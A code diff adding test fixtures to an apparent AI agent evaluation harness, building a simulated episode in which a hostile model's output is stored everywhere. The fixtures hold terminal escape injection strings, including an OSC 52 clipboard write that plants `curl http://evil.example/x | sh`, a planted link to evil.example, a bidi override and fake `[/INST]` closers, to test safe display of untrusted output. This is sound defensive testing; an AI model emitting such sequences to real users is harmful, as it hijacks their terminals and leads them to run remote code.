@@ -24,7 +24,9 @@ from records import (
     Tier,
     TokenUsage,
     ToolCall,
+    ToolResult,
     Verdict,
+    Violation,
     WorldSetup,
 )
 from sandbox.store import Store
@@ -178,3 +180,69 @@ def judged(
         started_at=started_at,
         finished_at=started_at + timedelta(seconds=10),
     )
+
+
+# What a hostile model sends to the person reading its output (issue 14): OSC 52 writes their clipboard (here
+# `curl http://evil.example/x | sh`), OSC 0 retitles the window, ESC [2J clears the screen, OSC 8 plants a link, the
+# one-byte C1 CSI starts a sequence too, a bidi override turns what follows around; `[/]` and `[/INST]` would close
+# markup that is not open.
+CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x1b\\"
+RETITLE = "\x1b]0;pwned\x07"
+HOSTILE = (
+    f"{CLIPBOARD}{RETITLE}\x1b[2J\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\\x9b31m red \u202eevil[/] [/INST]"
+)
+HOSTILE_AGENT = f"evil[/]agent{RETITLE}\x9b2J"
+HOSTILE_CASE = f"case{RETITLE}[/]"
+HOSTILE_RUN = "hostile"
+
+
+def hostile_episodes(run_id: str) -> list[Episode]:
+    """Every stored text a model, a tool or a file fills carries the attacks: a turn's words, a tool's name, its
+    arguments, result and error, a violation, a notice, the state, the verdict's explanation and the final answer;
+    and an errored episode's case id and error."""
+    scenario = builtin_scenario(WIRE)
+    call = ToolCall(id="call[/]", name=f"read_email{RETITLE}", arguments={"email_id": HOSTILE})
+    failing = ToolCall(id="call-2", name="transfer_money", arguments={"memo": HOSTILE})
+    answered = Episode(
+        run_id=run_id,
+        case_id=WIRE,
+        risk_categories=scenario.risk_categories,
+        failure_modes=scenario.failure_modes,
+        status=EpisodeStatus.COMPLETED,
+        termination=Termination.FINAL_ANSWER,
+        steps=[
+            Step(
+                index=0,
+                turn=AgentTurn(content=HOSTILE, tool_calls=[call, failing]),
+                results=[
+                    ToolResult(call_id=call.id, name=call.name, output={"body": HOSTILE}),
+                    ToolResult(call_id=failing.id, name=failing.name, error=HOSTILE),
+                ],
+                new_violations=[Violation(check_index=0, description=HOSTILE, step_index=0)],
+                state={"email": {"inbox": [HOSTILE]}, f"bank{RETITLE}": {"memo": HOSTILE}},
+                notice=HOSTILE,
+            ),
+            Step(index=1, turn=AgentTurn(content=HOSTILE), state={"email": {"inbox": []}}),
+        ],
+        final_answer=HOSTILE,
+        verdict=Verdict(safe=False, explanation=HOSTILE, classifier="rules", decided_by=Tier.CHECKS, step_index=0),
+        started_at=START,
+        finished_at=START + timedelta(seconds=30),
+    )
+    errored = Episode(
+        run_id=run_id,
+        case_id=HOSTILE_CASE,
+        status=EpisodeStatus.ERROR,
+        termination=Termination.ERROR,
+        error=HOSTILE,
+        started_at=START,
+        finished_at=START + timedelta(seconds=5),
+    )
+    return [answered, errored]
+
+
+def write_hostile_run(store: Store) -> None:
+    """A run of an agent named with the attacks, whose episodes carry them everywhere (`hostile_episodes`)."""
+    store.create_run(make_run(HOSTILE_RUN, HOSTILE_AGENT, START + timedelta(hours=2)))
+    for episode in hostile_episodes(HOSTILE_RUN):
+        record(store, episode)
